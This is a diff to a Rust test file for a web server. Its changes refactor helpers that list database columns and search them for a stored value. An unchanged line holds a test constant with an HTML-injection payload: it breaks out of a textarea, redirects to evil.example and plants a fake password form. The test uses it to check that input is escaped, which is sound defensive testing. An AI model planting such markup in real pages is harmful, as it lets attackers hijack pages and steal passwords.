@@ -10,6 +10,8 @@ use crate::server::testing::{app_state, on_each_backend};
 use axum::http::{header, StatusCode};
 use axum::Router;
 
+mod every_form;
+
 /// Markup that would end a `<textarea>` and take over the page if it were written raw.
 const BREAKOUT: &str = "</textarea><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\"><form action=\"https://evil.example/\"><input name=password></form>";
 /// How it must come back: as text inside the field.
@@ -309,35 +311,49 @@ async fn logos_are_decoded_one_at_a_time_within_a_memory_ceiling() {
     assert!(grown < 150, "resident memory grew by {grown} MB");
 }
 
-/// Every table and text column where `needle` is found (a search of the whole database).
-async fn places_holding(db: &Db, needle: &str) -> Vec<String> {
+/// Every column of every table of the platform, as `(table, column)`.
+async fn columns(db: &Db) -> Vec<(String, String)> {
+    typed_columns(db).await.into_iter().map(|(table, column, _)| (table, column)).collect()
+}
+
+/// Every column of every table, with whether it holds text.
+async fn typed_columns(db: &Db) -> Vec<(String, String, bool)> {
     #[derive(sqlx::FromRow)]
     struct Column {
         table_name: String,
         column_name: String,
+        data_type: String,
     }
     let columns: Vec<Column> = match db.backend() {
         crate::server::db::Backend::Sqlite => db
             .fetch_all(Sql::new(
-                "SELECT m.name AS table_name, p.name AS column_name FROM sqlite_master m JOIN pragma_table_info(m.name) p \
-                 WHERE m.type = 'table' AND m.name NOT LIKE 'sqlite_%' AND m.name NOT LIKE '_sqlx%'",
+                "SELECT m.name AS table_name, p.name AS column_name, p.type AS data_type FROM sqlite_master m JOIN pragma_table_info(m.name) p \
+                 WHERE m.type = 'table' AND m.name NOT LIKE 'sqlite_%' AND m.name NOT LIKE '_sqlx%' ORDER BY 1, 2",
             ))
             .await
             .unwrap(),
         crate::server::db::Backend::Postgres => db
             .fetch_all(Sql::new(
-                "SELECT table_name::text AS table_name, column_name::text AS column_name FROM information_schema.columns \
-                 WHERE table_schema = current_schema() AND table_name NOT LIKE '_sqlx%'",
+                "SELECT table_name::text AS table_name, column_name::text AS column_name, data_type::text AS data_type FROM information_schema.columns \
+                 WHERE table_schema = current_schema() AND table_name NOT LIKE '_sqlx%' ORDER BY 1, 2",
             ))
             .await
             .unwrap(),
     };
+    columns.into_iter().map(|c| {
+        let is_text = ["TEXT", "CHAR"].iter().any(|t| c.data_type.to_uppercase().contains(t));
+        (c.table_name, c.column_name, is_text)
+    }).collect()
+}
+
+/// Every table and text column where `needle` is found (a search of the whole database).
+async fn places_holding(db: &Db, needle: &str) -> Vec<String> {
     let mut found = Vec::new();
-    for c in columns {
-        let mut sql = Sql::new(&format!("SELECT COUNT(*) AS n FROM \"{}\" WHERE CAST(\"{}\" AS TEXT) LIKE ", c.table_name, c.column_name));
+    for (table, column) in columns(db).await {
+        let mut sql = Sql::new(&format!("SELECT COUNT(*) AS n FROM \"{table}\" WHERE CAST(\"{column}\" AS TEXT) LIKE "));
         sql.bind(format!("%{needle}%"));
         if db.fetch_count(sql).await.unwrap() > 0 {
-            found.push(format!("{}.{}", c.table_name, c.column_name));
+            found.push(format!("{table}.{column}"));
         }
     }
     found
